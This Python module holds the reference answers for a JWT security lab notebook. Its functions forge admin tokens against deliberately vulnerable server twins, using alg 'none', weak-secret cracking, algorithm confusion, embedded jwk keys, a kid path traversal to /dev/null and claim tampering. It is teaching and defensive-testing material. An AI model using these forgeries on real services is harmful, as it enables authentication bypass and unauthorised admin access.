"""The reference answers of notebook 05's lab: one forged token per attack, built with the toolkit of ``attacks``.

The notebook's instructor edition defines these same functions (``tests/test_drift.py`` compares them); in the
student edition they are the learner's to write, and a learner who is stuck imports one from here. Each takes
what the attacker has at that point of the notebook and returns a token that opens ``GET /admin/users`` on the
matching twin of ``vulnerable.py`` - and that ``create_app()`` refuses.
"""

from __future__ import annotations

from typing import Any

from cryptography.hazmat.primitives.asymmetric import rsa

from .attacks import crack_hs256, forge_token, public_jwk, read_token, sign_rs256, tamper

__all__ = [
    "ADMIN_ID",
    "forge_alg_confusion",
    "forge_alg_none",
    "forge_claim_tampering",
    "forge_jwk_header",
    "forge_kid_path",
    "forge_unverified",
    "forge_weak_secret",
]

#: The ``sub`` of the demo admin (``demo.DEMO_USERS``): what every forged token wants the server to believe.
ADMIN_ID = "2"


def forge_unverified(claims: dict[str, Any]) -> str:
    """Weakness ``unverified``: any well-formed token carrying ``claims``; its signature is never checked."""
    return forge_token({"alg": "HS256", "typ": "JWT"}, claims, b"any key at all: this twin never checks it")


def forge_alg_none(claims: dict[str, Any]) -> str:
    """Weakness ``alg_none``: an unsigned token (``"alg": "none"``, empty signature) carrying ``claims``."""
    return forge_token({"alg": "none", "typ": "JWT"}, claims)


def forge_weak_secret(issued: str, candidates: list[str]) -> str:
    """Weakness ``weak_secret``: crack the secret of ``issued`` offline, then sign the admin's claims with it.

    Raises:
        ValueError: no candidate is the secret.
    """
    cracked = crack_hs256(issued, candidates)
    if cracked is None:
        raise ValueError("no candidate is the secret")
    secret, _ = cracked
    header, claims, _ = read_token(issued)
    return forge_token(header, {**claims, "sub": ADMIN_ID}, secret.encode("utf-8"))


def forge_alg_confusion(issued: str, public_key_pem: bytes) -> str:
    """Weakness ``alg_confusion``: the admin's claims, HS256-signed with the twin's public key PEM as secret."""
    _, claims, _ = read_token(issued)
    return forge_token({"alg": "HS256", "typ": "JWT"}, {**claims, "sub": ADMIN_ID}, public_key_pem)


def forge_jwk_header(claims: dict[str, Any], private_key: rsa.RSAPrivateKey) -> str:
    """Weakness ``jwk_header``: ``claims`` RS256-signed with the attacker's key, whose public half rides along."""
    return sign_rs256({"jwk": public_jwk(private_key)}, claims, private_key)


def forge_kid_path(claims: dict[str, Any]) -> str:
    """Weakness ``kid_path``: a ``kid`` that walks to ``/dev/null``, and ``claims`` signed with its content."""
    # Sixteen "../" reach "/" from any folder the twin's key folder can be in; more of them stay at "/".
    return forge_token({"alg": "HS256", "typ": "JWT", "kid": "../" * 16 + "dev/null"}, claims, b"")


def forge_claim_tampering(seen: str) -> str:
    """Weakness ``claim_tampering``: the admin's id in a token the twin has verified once, its signature kept."""
    return tamper(seen, sub=ADMIN_ID)
